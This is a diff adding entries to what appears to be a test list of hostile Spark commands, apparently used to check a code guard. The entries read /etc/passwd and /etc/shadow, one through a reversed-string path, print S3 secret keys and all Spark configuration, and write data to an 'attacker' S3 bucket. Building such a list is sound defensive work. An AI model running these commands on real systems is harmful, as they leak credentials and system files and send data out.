@@ -115,6 +115,13 @@ SPARK_COMMANDS = {
     "temp-view-over-file": "spark.sql(\"CREATE TEMPORARY VIEW p USING text OPTIONS (path '/etc/passwd')\")",
     "read-unknown-source": "spark.read.text(''.join(reversed('dwssap/cte/'))).show()",
     "write-to-url": 'daily.write.csv("s3a://attacker/bucket")',
+    "print-secret-conf": 'print(spark.conf.get("spark.hadoop.fs.s3a.secret.key"))',
+    "print-all-conf": "print(spark.sparkContext.getConf().getAll())",
+    "print-runtime-conf": "print(spark.conf.getAll)",
+    "sql-set-listing": 'spark.sql("SET -v").show(1000, truncate=False)',
+    "pandas-side-door": 'name = "to_pickle"\norders.toPandas().to_pickle(output_table)',
+    "save-without-target": 'daily.write.format("console").save()',
+    "read-option-path": 'spark.read.option("path", "/etc/shadow").format("text").load().show()',
 }
 
 DESTRUCTION = {
